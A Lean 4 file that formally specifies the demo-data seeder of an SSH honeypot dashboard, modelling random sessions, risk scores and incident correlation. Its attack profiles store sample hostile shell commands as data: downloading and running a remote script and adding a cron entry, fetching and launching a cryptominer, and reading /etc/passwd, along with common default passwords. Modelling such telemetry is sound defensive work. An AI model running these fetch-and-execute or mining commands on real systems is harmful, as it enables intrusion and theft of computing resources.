import SentinelSsh.Core.Correlation

/-!
# `backend/app/demo_data.py`

With `DEMO_MODE`, every start of the backend calls `seed_if_empty`, which fills empty tables with made-up
sessions. It writes the rows by itself instead of calling the pipeline: it correlates the attacks over a
dictionary of the incidents it has created, and the pipeline goes on from there. What `random.Random(42)`
yields is a parameter; the ranges it is asked for are part of its type.
-/

namespace SentinelSsh.Backend.Demo

open Python SentinelSsh.Core

/-! ## The material -/

/-- An entry of `_SOURCES`. -/
structure Source where
  ip : String
  country : String
  asn : String
  isp : String
  deriving DecidableEq, Repr

/-- `_SOURCES` -/
def sources : List Source :=
  [⟨"185.220.100.5", "Russia", "AS205100", "FlokiNET"⟩,
    ⟨"45.95.147.20", "Netherlands", "AS202425", "IP Volume inc"⟩,
    ⟨"103.97.176.10", "China", "AS4837", "China Unicom"⟩,
    ⟨"191.96.227.8", "Brazil", "AS262287", "Latitude.sh"⟩,
    ⟨"196.196.150.3", "South Africa", "AS37153", "Xneelo"⟩,
    ⟨"8.8.8.8", "United States", "AS15169", "Google LLC"⟩,
    ⟨"212.70.149.71", "Bulgaria", "AS9009", "M247"⟩]

/-- `_USERNAMES` -/
def usernames : List String :=
  ["root", "admin", "ubuntu", "postgres", "test", "oracle", "git", "pi"]

/-- `_PASSWORDS` -/
def passwords : List String :=
  ["123456", "admin", "password", "root", "12345678", "qwerty", "toor", "1234"]

/-- `_SSH_VERSIONS` -/
def sshVersions : List String :=
  ["SSH-2.0-libssh_0.9.6", "SSH-2.0-Go", "SSH-2.0-PUTTY", "SSH-2.0-paramiko_2.7.2"]

/-- An entry of `_PROFILES`. -/
structure Profile where
  behaviors : List String
  mitre : List String
  commands : List String
  risk : Int

/-- `_PROFILES` -/
def profiles : List Profile :=
  [⟨["common_credential_use", "brute_force", "known_malicious_source", "tool_transfer", "cron_persistence",
        "post_auth_activity"],
      ["T1078", "T1110", "T1105", "T1053.003", "T1021.004"],
      ["uname -a", "wget http://45.95.147.20/x.sh", "chmod +x x.sh", "./x.sh", "crontab -e"], 96⟩,
    ⟨["common_credential_use", "brute_force", "known_malicious_source", "cryptomining",
        "post_auth_activity"],
      ["T1078", "T1110", "T1496", "T1021.004"],
      ["curl -O http://pool/xmrig", "./xmrig --donate-level 1"], 91⟩,
    ⟨["common_credential_use", "brute_force", "system_discovery", "user_discovery", "account_discovery",
        "post_auth_activity"],
      ["T1078", "T1110", "T1082", "T1033", "T1087", "T1021.004"],
      ["whoami", "id", "uname -a", "cat /etc/passwd"], 78⟩,
    ⟨["common_credential_use", "brute_force", "post_auth_activity"],
      ["T1078", "T1110", "T1021.004"],
      ["ls -la", "w"], 52⟩,
    ⟨["common_credential_use", "brute_force"], ["T1078", "T1110"], [], 35⟩,
    ⟨["brute_force"], ["T1110"], [], 22⟩]

/-- The profile of round `i`; `_PROFILES[i % len(_PROFILES)]`. -/
def profileAt (i : Nat) : Profile :=
  profiles.get ⟨i % profiles.length, Nat.mod_lt i (by decide)⟩

/-- The local variable `is_mal`. -/
def Profile.isMalicious (profile : Profile) : Bool :=
  profile.behaviors.contains "known_malicious_source"

/-- `_risk_level` -/
def riskLevel (score : Int) : RiskLevel :=
  if score > 70 then .high else if score > 30 then .medium else .low

/-- What `rng.randint(lo, hi)` returns. -/
abbrev Randint (lo hi : Int) := { n : Int // lo ≤ n ∧ n ≤ hi }

/-- What the generator yields in one round. -/
structure Draw where
  source : Fin sources.length
  jitter : Randint (-4) 4
  minutes : Randint 1 1440
  attempts : Randint 3 25
  sourcePort : Randint 1024 65535
  /-- Drawn for sources that are not malicious. -/
  reputation : Randint 0 40
  username : Fin usernames.length
  password : Fin passwords.length
  sshVersion : Fin sshVersions.length
  sessionNumber : Randint 1000 9999
  /-- `rng.uniform(0.5, 8.0)`, rounded to two digits. -/
  duration : Nat
  /-- `rng.random() < 0.2`; drawn for sessions with commands. -/
  isExec : Bool

/-! ## One round of the loop -/

namespace Draw

variable (draw : Draw) (now : Datetime) (i : Nat)

/-- The tuple `rng.choice(_SOURCES)` returns. -/
def chosen : Source :=
  sources.get draw.source

/-- The local variable `ts`. -/
def timestamp : Datetime :=
  { now with wall := now.wall - draw.minutes.1 * 60000000 }

/-- The local variable `risk`. -/
def risk : Int :=
  max 0 (min 100 ((profileAt i).risk + draw.jitter.1))

/-- The `Attack` of round `i`. -/
def attack : AttackCols where
  timestamp := draw.timestamp now
  sourceIp := draw.chosen.ip
  sourcePort := some draw.sourcePort.1
  country := some draw.chosen.country
  asn := some draw.chosen.asn
  isp := some draw.chosen.isp
  reputation := some (if (profileAt i).isMalicious then 100 else draw.reputation.1)
  isMalicious := (profileAt i).isMalicious
  username := some (usernames.get draw.username)
  password := some (.str (passwords.get draw.password))
  sshVersion := some (sshVersions.get draw.sshVersion)
  sessionId := "demo" ++ pad 3 i ++ toString draw.sessionNumber.1
  duration := draw.duration
  authAttempts := draw.attempts.1
  riskScore := draw.risk i
  riskLevel := riskLevel (draw.risk i)
  behaviors := some (Json.dumps (profileAt i).behaviors)
  mitreTechniques := some (Json.dumps (profileAt i).mitre)

/-- The commands of round `i`. -/
def commands : List CommandCols :=
  (profileAt i).commands.mapIdx fun j c =>
    { sessionId := some (draw.attack now i).sessionId
      timestamp := { draw.timestamp now with wall := (draw.timestamp now).wall + (j + 1) * 1000000 }
      command := c
      commandType := if j = 0 && draw.isExec then "exec" else "shell" }

/-- The `Incident` a round creates for an address it has not met. -/
def newIncident : IncidentCols where
  sourceIp := draw.chosen.ip
  country := some draw.chosen.country
  title := none
  firstSeen := draw.timestamp now
  lastSeen := draw.timestamp now
  attemptCount := 0
  maxRiskScore := 0
  status := .open
  mitreTechniques := some (Json.dumps [])

/-- The assignments of a round to the incident, whether met or created; the list of techniques is one
the loop has written, so `json.loads` does not raise. -/
def absorb (incident : IncidentCols) : IncidentCols :=
  let ts := draw.timestamp now
  let attemptCount := incident.attemptCount + draw.attempts.1
  let current := (Json.loads ((or incident.mitreTechniques (some "[]")).getD "")).getD []
  { incident with
    firstSeen := if ts.instant < incident.firstSeen.instant then ts else incident.firstSeen
    lastSeen := if incident.lastSeen.instant < ts.instant then ts else incident.lastSeen
    attemptCount := attemptCount
    maxRiskScore := max incident.maxRiskScore (draw.risk i)
    mitreTechniques := some (Json.dumps (fromkeys (current ++ (profileAt i).mitre)))
    title := some ("SSH activity from " ++ draw.chosen.ip ++ (" (" ++ draw.chosen.country ++ ")") ++
      " — " ++ toString attemptCount ++ " attempts") }

end Draw

/-- A round that draws the source `8.8.8.8`, a time, and the first of everything else. -/
def Draw.google (minutes : Randint 1 1440) : Draw where
  source := ⟨5, by decide⟩
  jitter := ⟨-4, by decide⟩
  minutes := minutes
  attempts := ⟨3, by decide⟩
  sourcePort := ⟨1024, by decide⟩
  reputation := ⟨0, by decide⟩
  username := ⟨0, by decide⟩
  password := ⟨0, by decide⟩
  sshVersion := ⟨0, by decide⟩
  sessionNumber := ⟨1000, by decide⟩
  duration := 500
  isExec := false

/-- The tables in the open transaction and the dictionary `incidents`: the address of every incident the
loop has created, with the key of its row. -/
structure Seeding where
  db : Db
  incidents : List (String × Nat) := []

/-- The incident of the round: the one in the dictionary, or a new one, which is flushed at once. -/
def Seeding.incidentFor (engine : Engine) (s : Seeding) (cols : IncidentCols) : Option (Seeding × Nat) :=
  match s.incidents.lookup cols.sourceIp with
  | some key => some (s, key)
  | none =>
    if engine.acceptsAll cols.columns then
      let key := s.db.nextIncident
      some (⟨s.db.putIncident none key cols, s.incidents ++ [(cols.sourceIp, key)]⟩, key)
    else none

/-- The assignments to the object of one incident. -/
def updateIncident (db : Db) (key : Nat) (f : IncidentCols → IncidentCols) : Db :=
  { db with
    incidents := db.incidents.map fun i =>
      if i.id = key then { f i.toIncidentCols with id := i.id } else i }

/-- The body of the loop; `none` when a statement raises. -/
def seedRound (engine : Engine) (now : Datetime) (s : Seeding) (round : Draw × Nat) : Option Seeding :=
  let (draw, i) := round
  (s.incidentFor engine (draw.newIncident now)).bind fun (s, key) =>
    let attack := draw.attack now i
    let commands := draw.commands now i
    if engine.acceptsAll attack.columns && commands.all fun c => engine.acceptsAll c.columns then
      let db := updateIncident s.db key (draw.absorb now i)
      some { s with db := db.putAttack db.nextAttack attack commands key }
    else none

/-- `seed_if_empty` for `count` draws: the committed tables and the number of attacks that were created;
`none` when a statement raised, in which case the transaction is rolled back. -/
def seedIfEmpty (engine : Engine) (force : Bool) (now : Datetime) (draws : List Draw) (db : Db) :
    Option (Db × Nat) :=
  if !force && !db.attacks.isEmpty then some (db, 0)
  else
    (Runs.run (seedRound engine now) { db := db } draws.zipIdx).bind fun s =>
      if (s.db.incidents.drop db.incidents.length).all fun i => engine.acceptsAll i.columns then
        some (s.db, draws.length)
      else none

/-- `_maybe_seed_demo`: a failure does not stop the start. -/
def maybeSeedDemo (engine : Engine) (demoMode : Bool) (now : Datetime) (draws : List Draw) (db : Db) : Db :=
  if demoMode then ((seedIfEmpty engine false now draws db).map (·.1)).getD db else db

/-! ## The system of both writers -/

/-- What happens to the database: the backend starts, or an event of the pipeline's runs. -/
inductive SystemEvent where
  /-- `create_app`, with the setting, the clock and the generator of this start -/
  | start (demoMode : Bool) (now : Datetime) (draws : List Draw)
  | pipeline (e : Core.Event)

/-- One step of the system. -/
def systemStep (p : IngestPipeline) (engine : Engine) (db : Db) : SystemEvent → Option Db
  | .start demoMode now draws => some (maybeSeedDemo engine demoMode now draws db)
  | .pipeline e => step p engine db e

/-- The log entries of a step from `db` to `db'`: of a start, the attacks it created. -/
def entriesOf (db db' : Db) : SystemEvent → Log
  | .start _ _ _ =>
    (db'.attacks.drop db.attacks.length).map fun a => (a.sourceIp, .attack a.toAttackCols)
  | .pipeline e => (entryOf db db' e).toList

/-- A step of the system that is written down. -/
def loggedSystemStep (p : IngestPipeline) (engine : Engine) (s : Logged) (e : SystemEvent) :
    Option Logged :=
  (systemStep p engine s.db e).map fun db' => ⟨db', s.log ++ entriesOf s.db db' e⟩

/-- No attack of the incident a session joins is later than the session; a start is free. -/
def SystemChronological (p : IngestPipeline) (engine : Engine) (db : Db) : SystemEvent → Prop
  | .start _ _ _ => True
  | .pipeline e => Chronological p engine db e

end SentinelSsh.Backend.Demo
